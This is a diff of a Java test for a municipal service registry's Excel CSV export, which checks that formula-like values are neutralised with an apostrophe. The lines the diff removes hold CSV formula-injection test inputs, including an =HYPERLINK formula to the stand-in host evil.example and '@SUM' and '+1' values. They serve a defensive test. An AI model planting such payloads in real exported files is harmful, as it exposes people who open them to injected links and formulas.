@@ -2,7 +2,6 @@ package jp.lg.externalservice.registry;
 
 import static jp.lg.externalservice.registry.RegistryEntries.fukushiService;
 import static jp.lg.externalservice.registry.RegistryEntries.service;
-import static jp.lg.externalservice.registry.RegistryEntries.sns;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
@@ -236,21 +235,11 @@ class RegistryApiTest extends WebTest {
   @Test
   @DisplayName("CSV: BOM 付き UTF-8・CRLF・全項目を引用符で囲み・日本語の見出しと表示名、数式になる値は ' で無害化、部署で絞られる")
   void csvForExcel() throws Exception {
-    String formula =
-        register(
-            service(
-                "=HYPERLINK(\"http://evil.example/" + marker + "\",\"click\")",
-                "+1 " + marker,
-                Route.IMPORTANT,
-                "kumin",
-                "-1",
-                "tanaka",
-                "@SUM(A1:A2)"));
-    String account = register(sns("区公式 X アカウント " + marker));
-    registry.changeStatus(
-        account, RegistryStatus.TERMINATED, LocalDate.of(2028, 3, 31), "tanaka", "pi-end", null);
-    String zoom =
-        register(fukushiService("Zoom " + marker, "Zoom Video Communications", Route.PAID));
+    RegistryEntries.ExportEntries entries =
+        RegistryEntries.ExportEntries.register(registry, marker);
+    String formula = entries.formula();
+    String account = entries.account();
+    String zoom = entries.zoom();
 
     Download csv = download("/api/services/export.csv?q=" + marker, "sato");
     assertThat(csv.status()).isEqualTo(200);
